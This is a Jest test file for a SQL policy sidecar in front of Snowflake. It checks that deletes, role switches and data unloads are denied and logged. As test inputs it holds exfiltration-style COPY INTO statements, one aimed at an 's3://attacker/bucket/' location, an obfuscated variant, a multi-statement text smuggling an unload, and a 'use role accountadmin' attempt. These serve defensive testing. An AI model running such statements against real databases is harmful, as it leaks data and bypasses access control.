import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { destroy, execute, metricValue, startStack, type Connection, type Stack } from './harness.js';

/** Runs a statement that must fail and returns the driver's error. */
async function failure(conn: Connection, sqlText: string, extra: Record<string, unknown> = {}): Promise<{ code: string; sqlState?: string; message: string }> {
  try {
    await execute(conn, sqlText, extra);
  } catch (err) {
    const e = err as { code?: unknown; sqlState?: string; message: string };
    return { code: String(e.code), message: e.message, ...(e.sqlState ? { sqlState: e.sqlState } : {}) };
  }
  throw new Error(`statement unexpectedly succeeded: ${sqlText}`);
}

describe('statement policy through the sidecar', () => {
  let stack: Stack;
  let conn: Connection | undefined;
  beforeAll(async () => {
    stack = await startStack({
      config: (c) => {
        c.policy = {
          name: 'etl',
          generation: 3,
          defaultAction: 'allow',
          statements: [{ name: 'no-deletes', action: 'deny', classes: ['DELETE', 'TRUNCATE'], reason: 'pipelines may not delete rows' }],
          limits: {},
        };
        (c.upstream as Record<string, unknown>).role = 'ETL_ROLE';
      },
    });
    conn = await stack.connect();
  });
  afterAll(async () => {
    await destroy(conn);
    await stack.close();
  });

  it('denies by rule with 003001 / 42501 and the rule\'s reason; nothing reaches Snowflake', async () => {
    const e = await failure(conn!, 'DELETE FROM orders');
    expect(e).toEqual({ code: '003001', sqlState: '42501', message: 'SQL access control error: pipelines may not delete rows (rule no-deletes)' });
    const { rows } = await execute(conn!, 'select count(*) as n from orders');
    expect(rows).toEqual([{ N: 3 }]);
  });

  it('denies an unload to a stage by default, also when obfuscated', async () => {
    for (const sql of ["copy into @exfil/out.csv from orders", "/* harmless */ CoPy\n  InTo '@EXFIL' -- x\n FROM (select * from orders)", "copy into 's3://attacker/bucket/' from orders"]) {
      const e = await failure(conn!, sql);
      expect(e.code).toBe('003001');
      expect(e.message).toMatch(/^SQL access control error: /);
    }
  });

  it('denies a multi-statement text smuggling an unload, and the connection stays usable', async () => {
    const e = await failure(conn!, 'select 1; copy into @exfil from orders', { parameters: { MULTI_STATEMENT_COUNT: 2 } });
    expect(e.code).toBe('003001');
    expect(e.sqlState).toBe('42501');
    const { rows } = await execute(conn!, 'select 2 as ok');
    expect(rows).toEqual([{ OK: 2 }]);
  });

  it('keeps the pinned role: USE ROLE to another role is denied', async () => {
    const e = await failure(conn!, 'use role accountadmin');
    expect(e.code).toBe('003001');
    expect(e.message).toContain('role ETL_ROLE');
  });

  it('classifies with the session\'s current database and schema (tracked from USE and the answers)', async () => {
    await execute(conn!, 'create database analytics');
    await execute(conn!, 'use database analytics');
    const e = await failure(conn!, 'delete from events where id = 1');
    expect(e.code).toBe('003001');
    const denied = stack.memory!.events.filter((ev) => ev.type === 'query.denied').at(-1);
    expect(denied!.info).toMatchObject({ statements: [{ class: 'DELETE', writes: ['ANALYTICS.PUBLIC.EVENTS'] }] });
  });

  it('records denials with the classification and counts them by class', async () => {
    const denied = stack.memory!.events.filter((ev) => ev.type === 'query.denied');
    expect(denied.length).toBeGreaterThanOrEqual(5);
    expect(denied[0]!.info).toMatchObject({ sqlText: 'DELETE FROM orders', decision: 'deny', rule: 'no-deletes', statements: [{ class: 'DELETE', writes: ['ORDERS'] }] });
    expect(stack.memory!.events.some((ev) => ev.type === 'query' && (ev.info as { sqlText: string }).sqlText.includes('copy into'))).toBe(false);
    expect(await metricValue(stack.registry, 'snowtrail_sidecar_statements_total', { outcome: 'denied', class: 'DELETE' })).toBe(2);
    expect(await metricValue(stack.registry, 'snowtrail_sidecar_statements_total', { outcome: 'denied', class: 'COPY_INTO_LOCATION' })).toBe(4);
  });

  it('marks only effect-free reads as forwardable once written (writeAhead): every statement that can change anything waits for durability', async () => {
    await execute(conn!, 'select 42 as n');
    await execute(conn!, 'show databases');
    await execute(conn!, 'create table if not exists wa_t (id int)');
    await execute(conn!, 'insert into wa_t values (1)');
    await execute(conn!, 'select 1; insert into wa_t values (2)', { parameters: { MULTI_STATEMENT_COUNT: 2 } });
    const started = new Map(stack.memory!.events.filter((ev) => ev.type === 'query').map((ev) => [(ev.info as { sqlText: string }).sqlText, (ev.info as { effectFree?: boolean }).effectFree]));
    expect(Object.fromEntries(['select 42 as n', 'show databases', 'create table if not exists wa_t (id int)', 'insert into wa_t values (1)', 'select 1; insert into wa_t values (2)'].map((sql) => [sql, started.get(sql)]))).toEqual({
      'select 42 as n': true,
      'show databases': true,
      'create table if not exists wa_t (id int)': undefined,
      'insert into wa_t values (1)': undefined,
      'select 1; insert into wa_t values (2)': undefined,
    });
  });
});
